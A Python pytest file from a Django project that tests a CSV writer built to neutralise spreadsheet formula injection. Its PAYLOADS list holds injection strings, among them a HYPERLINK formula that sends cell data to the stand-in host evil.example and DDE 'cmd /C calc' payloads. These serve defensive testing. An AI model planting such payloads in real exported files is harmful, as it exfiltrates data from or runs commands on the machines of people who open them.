"""The one CSV writer: cells a spreadsheet would run as formulas are neutralised."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from django.core.exceptions import ValidationError
from hypothesis import given
from hypothesis import strategies as st

from purei.core.csv_safe import (
    FORMULA_START_CODE,
    csv_safe_cell,
    csv_text,
    csv_unguard_cell,
    csv_writer,
    starts_like_formula,
    validate_not_formula,
)

PAYLOADS = [
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\0=1+1",
    "-1e5",
    "-",
    "+64 21 555 0123",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_cells_starting_like_a_formula_get_a_single_quote(payload: str) -> None:
    assert csv_safe_cell(payload) == "'" + payload


@pytest.mark.parametrize(
    "value",
    ["", "Kai Makers Ltd", "0.00", "12.50", "-12.50", "-1234", "-0", "O'Brien", "a=b"],
)
def test_plain_text_and_numbers_stay_as_they_are(value: str) -> None:
    # a negative amount is a number, and a number cannot be a formula
    assert csv_safe_cell(value) == value


def test_non_text_values_are_written_as_text() -> None:
    assert csv_safe_cell(None) == ""
    assert csv_safe_cell(-5) == "-5"
    assert csv_safe_cell(12) == "12"


def test_a_cell_already_behind_a_quote_gets_another_so_it_reads_back_exactly() -> None:
    assert csv_safe_cell("'=1+1") == "''=1+1"
    assert csv_unguard_cell("''=1+1") == "'=1+1"
    assert csv_unguard_cell("'=1+1") == "=1+1"
    # a quote before anything else is the cell's own text
    assert csv_unguard_cell("'tis") == "'tis"
    assert csv_unguard_cell("'-12.50") == "'-12.50"


@given(st.text())
def test_unguard_undoes_guard_for_any_text(text: str) -> None:
    assert csv_unguard_cell(csv_safe_cell(text)) == text


@given(st.text())
def test_no_guarded_cell_starts_a_formula(text: str) -> None:
    cell = csv_safe_cell(text)
    assert not cell or cell[0] not in "=+@\t\r\0"
    if cell.startswith("-"):
        assert re.fullmatch(r"-[0-9]+(\.[0-9]+)?", cell)


@given(st.lists(st.lists(st.text(), max_size=5), max_size=5))
def test_the_writer_reads_back_as_the_guarded_cells(rows: list[list[str]]) -> None:
    text = csv_text(rows)
    back = list(csv.reader(io.StringIO(text, newline="")))
    expected = [[csv_safe_cell(cell) for cell in row] for row in rows]
    # a row with no cells reads back as an empty row
    assert back == expected


def test_every_field_is_quoted_so_a_separator_inside_cannot_start_a_cell() -> None:
    # OWASP: "=1+2";=1+2 must not become two cells in a program that splits on ";"
    out = io.StringIO(newline="")
    writer = csv_writer(out)
    writer.writerow(['=1+2";=1+2', "Stall;=1+1", "-12.50", 7])
    writer.writerows([["a"]])
    assert out.getvalue() == '"\'=1+2"";=1+2","Stall;=1+1","-12.50","7"\r\n"a"\r\n'


@pytest.mark.parametrize("name", ["=1+1", "+64", "-Kai", "@home", " =x"])
def test_names_starting_like_a_formula_are_refused(name: str) -> None:
    assert starts_like_formula(name)
    with pytest.raises(ValidationError) as info:
        validate_not_formula(name)
    assert info.value.code == FORMULA_START_CODE == "formula_start"


@pytest.mark.parametrize("name", ["", "Kai Makers", "3 Kings", "Te Whare = Toi"])
def test_other_names_pass(name: str) -> None:
    assert not starts_like_formula(name)
    validate_not_formula(name)


def test_no_module_writes_csv_past_the_safe_writer() -> None:
    # every CSV Pūrei writes goes through purei.core.csv_safe (docs/spreadsheets.md)
    package = Path(__file__).resolve().parents[2]
    helper = package / "core" / "csv_safe.py"
    pattern = re.compile(r"\bcsv\.(writer|DictWriter)\b|\bDictWriter\(")
    offenders = [
        str(path.relative_to(package.parent))
        for path in package.rglob("*.py")
        if path != helper
        and "tests" not in path.parts
        and pattern.search(path.read_text(encoding="utf-8"))
    ]
    assert offenders == []
